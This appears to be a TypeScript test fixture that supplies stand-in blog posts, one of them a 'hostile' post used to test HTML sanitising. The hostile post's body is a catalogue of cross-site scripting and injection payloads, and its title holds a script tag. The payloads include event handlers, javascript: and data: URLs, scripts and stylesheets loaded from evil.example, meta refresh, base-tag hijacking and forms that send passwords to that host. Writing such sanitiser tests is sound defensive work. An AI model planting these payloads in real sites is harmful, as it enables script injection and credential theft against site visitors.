const pixel = 'image-0123456789abcdef0123456789abcdef01234567-1600x900-png'

function image(alt: string) {
  return {
    _type: 'image',
    asset: { _type: 'reference', _ref: pixel },
    alt,
    hotspot: { x: 0.25, y: 0.75, height: 0.1, width: 0.1 },
  }
}

function refer(id: string) {
  return { _type: 'reference', _ref: id, _key: id }
}

/** Every way known to us in which the text of a post could run, load, send, cover the page or pass for a part of it. */
const hostileHtml = `<p onclick="steal()" style="position:fixed;inset:0" class="dialog fixed inset-0">Kept words.</p>
<script>steal()</script><script src="https://evil.example/a.js"></script>
<img src="/nowhere.png" onerror="steal()"><img src="https://evil.example/pixel.png" srcset="https://evil.example/2.png 2x">
<a href="javascript:steal()">first</a> <a href=" java&#10;script:steal()">second</a> <a href="data:text/html,<script>steal()</script>">third</a>
<a href="vbscript:steal()">fourth</a> <a href="https://example.com/page" target="_self" rel="opener">outside</a>
<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>parent.steal()</script>"></iframe>
<object data="https://evil.example/a.swf"></object><embed src="https://evil.example/a.swf"><link rel="stylesheet" href="https://evil.example/a.css">
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">
<style>body { display: none } @import "https://evil.example/b.css";</style>
<form action="https://evil.example" id="root"><input name="password" autofocus onfocus="steal()"><button formaction="javascript:steal()">Send</button></form>
<svg onload="steal()"><script>steal()</script><a xlink:href="javascript:steal()"><text>drawn</text></a><animate onbegin="steal()" attributeName="x" dur="1s"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=steal()&gt;"></mglyph></table></mtext></math>
<details open ontoggle="steal()"><summary>More</summary></details><video src="x" onerror="steal()" autoplay></video><audio src="x" onerror="steal()"></audio>
<template><script>steal()</script></template>
<h2 id="page-state" onmouseover="steal()">Kept heading</h2><div id="main" role="dialog">Kept part</div>
<table><tr><th>Column</th><td background="https://evil.example/c.png">Kept cell</td></tr></table>
<p>Also kept.</p></script></div></article>
<noscript><p title="</noscript><img src=x onerror=steal()>"></noscript>`

/** What the stand-in for the hosted content service holds: a whole post, a hostile one, one of which half is missing. */
export const hostedContentDocuments: unknown[] = [
  { _id: 'category-fuel', _type: 'category', title: 'Fuel', slug: { current: 'fuel' } },
  {
    _id: 'author-desk',
    _type: 'author',
    name: 'Method Desk',
    slug: { current: 'desk' },
    image: image('The desk'),
    bio: 'Looks after the factors.',
  },
  { _id: 'author-quiet', _type: 'author', name: 'Quiet Writer', slug: { current: 'quiet' } },
  {
    _id: 'post-whole',
    _type: 'post',
    title: 'Reading a docket',
    slug: { current: 'whole' },
    mainImage: image('A docket'),
    publishedAt: '2026-10-02T00:00:00.000Z',
    excerpt: 'What the lines of a fuel docket say.',
    author: refer('author-desk'),
    categories: [refer('category-fuel')],
    content: '<h2>Litres</h2><p>Hosted words.</p>',
    featured: true,
  },
  {
    _id: 'post-hostile',
    _type: 'post',
    title: 'Hostile <script>alert(1)</script>',
    slug: { current: 'hostile' },
    publishedAt: '2026-10-01T00:00:00.000Z',
    excerpt: 'An \u0008excerpt.',
    author: refer('author-desk'),
    categories: [refer('category-fuel')],
    content: hostileHtml,
  },
  { _id: 'post-bare', _type: 'post', title: 'Bare', slug: { current: 'bare' } },
]
